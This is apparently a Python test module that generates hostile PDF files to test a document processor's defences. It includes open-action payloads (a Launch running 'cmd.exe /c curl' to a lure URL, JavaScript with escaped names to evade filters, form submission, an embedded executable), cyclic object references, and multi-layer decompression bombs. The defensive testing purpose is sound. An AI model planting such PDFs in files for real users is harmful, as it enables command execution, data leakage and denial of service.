"""PDFs that act, that lead in rings, or that unpack to floods: written object by object."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Final

from tests.hostile.hostile_file import HostileFile, Lure

_PDF: Final = "application/pdf"
_CATALOG: Final = b"<</Type/Catalog/Pages 2 0 R MORE>>"
_PAGES: Final = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE: Final = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
    b"MORE>>>>"
)
_WORDS: Final = b"BT /F 12 Tf 72 720 Td (words) Tj ET"
_FONT: Final = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def files(lure: Lure) -> Iterator[HostileFile]:
    """Yield PDFs that do something when opened, and PDFs that are bombs."""
    web, file = lure.places("html")["web"], lure.places("txt")["path"]
    for name, more in _ACTIONS.items():
        told = more.replace("URL", web).replace("FILE", file).encode()
        yield HostileFile("PDF: actions", f"{name}.pdf", _PDF, partial(document, told))
    for name, make in _RINGS.items():
        yield HostileFile("PDF: rings and nesting", f"{name}.pdf", _PDF, make)
    for name, make in _FLOODS.items():
        yield HostileFile("PDF: floods", f"{name}.pdf", _PDF, make, name.startswith("packed"))


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream's bytes as they stand in a file."""
    return b"<</Length %d %s>>stream\n%s\nendstream" % (len(content), more, content)


def document(
    more: bytes = b"",
    *others: bytes,
    page: bytes = b"",
    content: bytes | None = None,
    changed: dict[int, bytes] | None = None,
    trailer: bytes = b"",
) -> bytes:
    """Return a PDF of one page with words. `more` is the catalogue's, `others` are objects from 6
    on, and `changed` replaces objects by their number."""
    objects = [
        _CATALOG.replace(b"MORE", more),
        _PAGES,
        _PAGE.replace(b"MORE", page),
        stream(_WORDS) if content is None else content,
        _FONT,
        *others,
    ]
    for number, replaced in (changed or {}).items():
        objects[number - 1] = replaced
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    trailer = trailer.replace(b"START", b"%d" % start)
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


_ACTIONS: Final = {
    "launch": "/OpenAction<</S/Launch/F(FILE)/Win<</F(cmd.exe)/P(/c curl URL)>>>>",
    "script": "/OpenAction<</S/JavaScript/JS(app.launchURL('URL'))>>",
    "script-with-escaped-name": "/OpenAction<</S/J#61vaScript/J#53(app.launchURL('URL'))>>",
    "uri": "/OpenAction<</S/URI/URI(URL)>>",
    "go-to-remote": "/OpenAction<</S/GoToR/F(FILE)/D[0/Fit]>>",
    "go-to-share": "/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\x)/D[0/Fit]>>",
    "go-to-embedded": "/OpenAction<</S/GoToE/F(FILE)/T<</R/C/N(x)>>>>",
    "submit": "/OpenAction<</S/SubmitForm/F(URL)/Flags 4>>",
    "import": "/OpenAction<</S/ImportData/F(FILE)>>",
    "chain": "/OpenAction<</S/URI/URI(URL)/Next[<</S/Launch/F(FILE)>><</S/JavaScript/JS(1)>>]>>",
    "on-close": "/AA<</WC<</S/JavaScript/JS(1)>>/DP<</S/Launch/F(FILE)>>>>",
    "names": "/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>>>",
    "embedded-file": "/Names<</EmbeddedFiles<</Names[(x)<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>]>>>>",
    "external-file": "/Names<</EmbeddedFiles<</Names[(x)<</Type/Filespec/FS/URL/F(URL)>>]>>>>",
    "xfa": "/AcroForm<</XFA 4 0 R/Fields[]/NeedAppearances true>>",
    "metadata": "/Metadata 4 0 R/URI<</Base(URL)>>/OpenAction<</S/URI/URI(x)>>",
    "rendition": "/OpenAction<</S/Rendition/R<</S/MR/C<</S/MCD/D<</F(URL)>>/CT(video/mp4)>>>>>>",
    "portfolio": "/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(x)<</EF<</F 4 0 R>>>>]>>>>",
}  # fmt: skip


def _nested(opening: bytes, closing: bytes, times: int) -> bytes:
    return document(b"/X 6 0 R", opening * times + closing * times)


def _kids(levels: int) -> bytes:
    """A tree of pages with one branch, and very deep."""
    others = [
        b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (number - 1, number + 1)
        for number in range(6, 6 + levels)
    ]
    return document(
        b"", *others, b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        changed={2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>"},
    )  # fmt: skip


def _updates(times: int) -> bytes:
    """Saved anew, very often, each time after the last."""
    out = bytearray(document())
    last = out.rindex(b"xref\n0")
    for _ in range(times):
        place = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \n"
        out += b"trailer<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (last, place)
        last = place
    return bytes(out)


def _form_ring() -> bytes:
    form = stream(
        b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    )
    return document(b"", form, page=b"/XObject<</X 6 0 R>>", content=stream(b"/X Do " + _WORDS))


def _forms_that_double(levels: int) -> bytes:
    forms = [
        stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
            % following,
        )
        for following in range(7, 7 + levels)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return document(
        b"", *forms, last, page=b"/XObject<</X 6 0 R>>", content=stream(b"/X Do " + _WORDS)
    )


def _type_3_ring() -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 119/LastChar"
        b" 119/Widths[9]/Encoding<</Differences[119/w]>>/CharProcs<</w 6 0 R>>/Resources<</Font<</F 5"
        b" 0 R>>>>>>"
    )
    return document(b"", stream(b"9 0 d0 BT /F 9 Tf (w) Tj ET"), changed={5: font})


_RINGS: Final[dict[str, Callable[[], bytes]]] = {
    "pages-in-a-ring": lambda: document(changed={2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
    "pages-in-two": lambda: document(
        b"", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>",
        changed={2: b"<</Type/Pages/Parent 6 0 R/Kids[6 0 R]/Count 9>>"},
    ),
    "one-page-often": lambda: document(changed={2: b"<</Type/Pages/Kids[%s]/Count 1>>" % (b"3 0 R " * 50_000)}),
    "count-of-many": lambda: document(changed={2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"}),
    "count-below-zero": lambda: document(changed={2: b"<</Type/Pages/Kids[3 0 R]/Count -1>>"}),
    "deep-pages": partial(_kids, 3_000),
    "parent-in-a-ring": lambda: document(changed={2: _PAGES.replace(b"/Kids", b"/Parent 3 0 R/Kids")}),
    "xref-in-a-ring": lambda: document(trailer=b"/Prev START"),
    "xref-stream-in-a-ring": lambda: document(trailer=b"/XRefStm START/Prev START"),
    "xref-below-zero": lambda: document(trailer=b"/Prev -1"),
    "many-updates": partial(_updates, 20_000),
    "length-in-a-ring": lambda: document(changed={4: b"<</Length 4 0 R>>stream\n%s\nendstream" % _WORDS}),
    "length-of-many": lambda: document(changed={4: stream(_WORDS).replace(b"35", b"99999999999")}),
    "filter-in-a-ring": lambda: document(changed={4: stream(_WORDS, b"/Filter 4 0 R/DecodeParms 4 0 R")}),
    "labels-in-a-ring": lambda: document(b"/PageLabels 6 0 R", b"<</Kids[6 0 R]/Nums[0 6 0 R]>>"),
    "labels-of-many": lambda: document(b"/PageLabels<</Nums[0<</S/r/St 2147483647>>]>>"),
    "outline-in-a-ring": lambda: document(
        b"/Outlines 6 0 R", b"<</First 7 0 R/Last 7 0 R/Count 9>>",
        b"<</Title(x)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 7 0 R/Last 7 0 R/Dest[3 0 R/Fit]>>",
    ),
    "names-in-a-ring": lambda: document(b"/Names<</Dests 6 0 R>>", b"<</Kids[6 0 R]/Limits[(a)(z)]>>"),
    "structure-in-a-ring": lambda: document(b"/StructTreeRoot 6 0 R", b"<</Type/StructTreeRoot/K[6 0 R]/ParentTree 6 0 R>>"),
    "fields-in-a-ring": lambda: document(b"/AcroForm<</Fields[6 0 R]>>", b"<</T(x)/Kids[6 0 R]/Parent 6 0 R/FT/Tx>>"),
    "threads-in-a-ring": lambda: document(b"/Threads[6 0 R]", b"<</F 7 0 R>>", b"<</T 6 0 R/N 7 0 R/V 7 0 R/P 3 0 R>>"),
    "forms-in-a-ring": _form_ring,
    "forms-that-double": partial(_forms_that_double, 12),
    "letters-in-a-ring": _type_3_ring,
    "references-in-a-ring": lambda: document(b"/X 6 0 R", b"7 0 R", b"6 0 R"),
    "resources-in-a-ring": lambda: document(b"", b"6 0 R", changed={3: _PAGE.replace(b"<</Font", b"6 0 R/X<</Font").replace(b"MORE", b"")}),
    "deep-arrays": partial(_nested, b"[", b"]", 200_000),
    "deep-dictionaries": partial(_nested, b"<</X ", b">>", 100_000),
    "deep-arrays-without-end": lambda: document(b"/X 6 0 R", b"[" * 300_000),
    "deep-content": lambda: document(content=stream(_WORDS + b"[" * 300_000)),
    "deep-states": lambda: document(content=stream(b"q " * 300_000 + _WORDS)),
    "root-in-a-ring": lambda: document(changed={1: b"1 0 R"}),
    "no-objects": lambda: b"%PDF-1.7\n" + b"trailer<</Root 1 0 R>>\n" * 9_000,
    "words-of-structure": lambda: b"%PDF-1.7\n" + b"1 0 obj<</Length 9>>stream\n" * 50_000,
    "encrypted-oddly": lambda: document(trailer=b"/Encrypt<</Filter/Standard/V 5/R 6/Length 2147483647/O()/U()/P -1>>/ID[()()]"),
    "encrypted-in-a-ring": lambda: document(b"", b"<</Filter 6 0 R/V 6 0 R>>", trailer=b"/Encrypt 6 0 R"),
}  # fmt: skip


def _flate(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def _packed(unpacked: int, times: int = 1) -> bytes:
    content = _flate(_WORDS + b" " * unpacked, times)
    return document(content=stream(content, b"/Filter[%s]" % (b"/FlateDecode" * times)))


def _object_stream(objects: int, unpacked: int) -> bytes:
    content = _flate(b"6 0 " * objects + b" " * unpacked)
    more = b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (objects, 4 * objects)
    return document(b"", stream(content, more))


def _xref_stream(entries: int) -> bytes:
    """A table of objects that is packed, and has very many entries."""
    table = _flate(bytes(4) * entries)
    more = b"/Type/XRef/W[1 2 1]/Size %d/Root 1 0 R/Filter/FlateDecode" % entries
    start = b"%PDF-1.7\n"
    end = b"\nstartxref\n%d\n%%%%EOF\n" % len(start)
    return start + b"9 0 obj\n" + stream(table, more) + b"\nendobj" + end


def _image(more: bytes, content: bytes) -> bytes:
    kind = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    shown = stream(b"600 0 0 600 0 0 cm /X Do " + _WORDS)
    return document(b"", stream(content, kind + more), page=b"/XObject<</X 6 0 R>>", content=shown)


def _predicted() -> bytes:
    """Undone line by line, with lines of two milliards of columns."""
    parms = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32>>"
    return document(content=stream(_flate(_WORDS), parms))


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 6 + count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    pages = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return document(b"", *[page] * count, changed={2: pages})


_FLOODS: Final[dict[str, Callable[[], bytes]]] = {
    "packed-once": partial(_packed, 1 << 28),
    "packed-twice": partial(_packed, 1 << 28, 2),
    "packed-five-times": partial(_packed, 1 << 28, 5),
    "filters": lambda: document(content=stream(_WORDS, b"/Filter[%s]" % (b"/ASCIIHexDecode" * 50_000))),
    "run-lengths": lambda: document(content=stream(b"\x81 " * 3_000_000, b"/Filter/RunLengthDecode")),
    "lzw": lambda: document(content=stream(bytes(3_000_000), b"/Filter/LZWDecode")),
    "ascii-85": lambda: document(content=stream(b"z" * 8_000_000, b"/Filter[/ASCII85Decode/FlateDecode]")),
    "predicted": _predicted,
    "object-stream": partial(_object_stream, 10, 1 << 29),
    "object-stream-of-many": partial(_object_stream, 2_000_000, 0),
    "xref-stream": partial(_xref_stream, 100_000_000),
    "many-objects": lambda: document(b"", *[b"null"] * 300_000),
    "many-pages": partial(_many_pages, 60_000),
    "large-size": lambda: document(trailer=b"/Size 2147483647"),
    "large-page": lambda: document(changed={3: _PAGE.replace(b"612 792", b"1e38 1e38").replace(b"MORE", b"")}),
    "page-of-user-units": lambda: document(changed={3: _PAGE.replace(b"/Parent", b"/UserUnit 1e9/Parent").replace(b"MORE", b"")}),
    "image": lambda: _image(b"/Filter/FlateDecode", _flate(bytes(1 << 24))),
    "image-jpx": lambda: _image(b"/Filter/JPXDecode", b"\xff\x4f\xff\x51" + b"\xff" * 60),
    "image-jbig2": lambda: _image(b"/Filter/JBIG2Decode", b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\x7f" * 40),
    "image-ccitt": lambda: _image(b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647>>", b"\0" * 999),
    "function": lambda: document(
        b"/X 6 0 R", stream(b"\0" * 9, b"/FunctionType 0/Domain[0 1 0 1 0 1 0 1]/Range[0 1]/Size[9999 9999 9999 9999]/BitsPerSample 32"),
    ),
    "shading": lambda: document(
        b"", page=b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Domain[-1e9 1e9 -1e9 1e9]/Function<</FunctionType 2/Domain[0 1]/N 1e9>>>>>>",
        content=stream(b"/S sh " + _WORDS),
    ),
    "dashes": lambda: document(content=stream(b"[1e-9]0 d 0 0 m 1e9 1e9 l S " * 500 + _WORDS)),
    "long-names": lambda: document(b"/" + b"x" * 5_000_000 + b" 1"),
    "long-numbers": lambda: document(b"/X " + b"9" * 3_000_000),
    "long-words": lambda: document(content=stream(b"BT /F 12 Tf (" + b"w" * 9_000_000 + b") Tj ET")),
    "many-words": lambda: document(content=stream(_WORDS * 60_000)),
}  # fmt: skip
